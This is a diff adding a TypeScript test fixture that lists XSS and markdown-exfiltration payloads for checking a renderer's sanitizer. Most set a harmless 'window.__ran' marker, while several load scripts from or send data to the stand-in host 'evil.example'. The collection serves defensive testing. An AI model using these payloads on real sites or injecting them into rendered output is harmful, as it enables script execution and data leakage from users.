@@ -1,0 +1,103 @@
+/** The host that must never be asked for anything. */
+export const EVIL = 'evil.example';
+
+const handlers = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart'];
+
+/**
+ * Answers that try to run something or to have something fetched: after OWASP's cheat sheets on XSS
+ * and its filter evasion, and what is known of exfiltration through markdown. Each sets
+ * `window.__ran` where it succeeds.
+ */
+export const HOSTILE_ANSWERS: readonly string[] = [
+  // Script tags.
+  '<script>window.__ran = 1</script>',
+  '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
+  '<script\n>window.__ran = 1</script\n>',
+  '<<script>window.__ran = 1//<</script>',
+  '</textarea></title></style></noscript><script>window.__ran = 1</script>',
+  '<script type="module">import "https://evil.example/x.js"</script>',
+  '<noscript><p title="</noscript><img src=x onerror=window.__ran=1>">',
+  // Event handlers.
+  ...handlers.map((name) => `<img src="x" ${name}="window.__ran = 1">`),
+  '<body onload=window.__ran=1>',
+  '<details open ontoggle=window.__ran=1>',
+  '<input autofocus onfocus=window.__ran=1>',
+  '<video><source onerror="window.__ran=1"></video>',
+  '<img/src/onerror=window.__ran=1>',
+  '<a href="#" style="animation-name:x" onanimationstart=window.__ran=1>x</a>',
+  // Addresses that run.
+  '[a](javascript:window.__ran=1)',
+  '[a](JaVaScRiPt:window.__ran=1)',
+  '[a](javascript&colon;window.__ran=1)',
+  '[a](java&#x0A;script:window.__ran=1)',
+  '[a](<java\nscript:window.__ran=1>)',
+  '[a](\u0001javascript:window.__ran=1)',
+  '[a](vbscript:window.__ran=1)',
+  '[a](data:text/html,<script>window.__ran=1</script>)',
+  '[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)',
+  '[a](data:image/svg+xml,<svg/onload=window.__ran=1>)',
+  '[a](blob:https://evil.example/1)',
+  '[a](https://evil.example/"onmouseover="window.__ran=1)',
+  '[a](javascript:window.__ran=1 "title")',
+  '<javascript:window.__ran=1>',
+  '[a]\n\n[a]: javascript:window.__ran=1',
+  '![a](javascript:window.__ran=1)',
+  // SVG and MathML.
+  '<svg onload=window.__ran=1>',
+  '<svg><script>window.__ran=1</script></svg>',
+  '<svg><animate onbegin=window.__ran=1 attributeName=x></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=window.__ran=1>#x"/></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__ran=1&gt;">',
+  '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3Jhbj0xIi8+)',
+  // Malformed HTML.
+  '<img src=x onerror=window.__ran=1//',
+  '<img """><script>window.__ran=1</script>">',
+  '<iframe src="javascript:window.__ran=1"></iframe>',
+  '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
+  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
+  '<!--[if gte IE 4]><script>window.__ran=1</script><![endif]-->',
+  '<![CDATA[<script>window.__ran=1</script>]]>',
+  '<?xml version="1.0"?><script>window.__ran=1</script>',
+  '<template><script>window.__ran=1</script></template>',
+  '<form action="javascript:window.__ran=1"><button>x</button></form>',
+  // Markdown that hides HTML, or breaks out of what surrounds it.
+  '`<img src=x onerror=window.__ran=1>`',
+  '```html"><img src=x onerror=window.__ran=1>\n<script>window.__ran=1</script>\n```',
+  '``` <img src=x onerror=window.__ran=1>\nx\n```',
+  '| <img src=x onerror=window.__ran=1> |\n|---|\n| <script>window.__ran=1</script> |',
+  '- [ ] <img src=x onerror=window.__ran=1>',
+  '> <script>window.__ran=1</script>',
+  '# <svg onload=window.__ran=1>',
+  '**<img src=x onerror=window.__ran=1>**',
+  '&lt;img src=x onerror=window.__ran=1&gt;',
+  '&#60;script&#62;window.__ran=1&#60;/script&#62;',
+  '\\<script>window.__ran=1\\</script>',
+  '{@html "<img src=x onerror=window.__ran=1>"}',
+  '${window.__ran=1}{{constructor.constructor("window.__ran=1")()}}',
+  '[<img src=x onerror=window.__ran=1>](https://evil.example/)',
+  '![<img src=x onerror=window.__ran=1>](https://evil.example/x.png)',
+  // What would be fetched.
+  '![](https://evil.example/x.png?secret=1)',
+  '![a](http://evil.example/x.png "t")',
+  '![a](//evil.example/x.png)',
+  '![a](/\\evil.example/x.png)',
+  '![a](\\\\evil.example/x.png)',
+  '![a](https:evil.example/x.png)',
+  '![a][x]\n\n[x]: https://evil.example/x.png',
+  '[![a](https://evil.example/x.png)](https://evil.example/)',
+  '![a](/api/sign-out)',
+  '![a](../../admin/api/tenants)',
+  '<img src="https://evil.example/x.png">',
+  '<img srcset="https://evil.example/x.png 2x">',
+  '<picture><source srcset="//evil.example/x.png"><img></picture>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<link rel="dns-prefetch" href="//evil.example">',
+  '<style>@import "https://evil.example/x.css"; p { background: url(//evil.example/x) }</style>',
+  '<p style="background:url(https://evil.example/x.png)">x</p>',
+  '<video poster="https://evil.example/x.png" src="//evil.example/x.mp4"></video>',
+  '<audio src="https://evil.example/x.mp3" autoplay></audio>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<base href="https://evil.example/">',
+  '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>',
+  '<portal src="https://evil.example/"></portal>',
+];
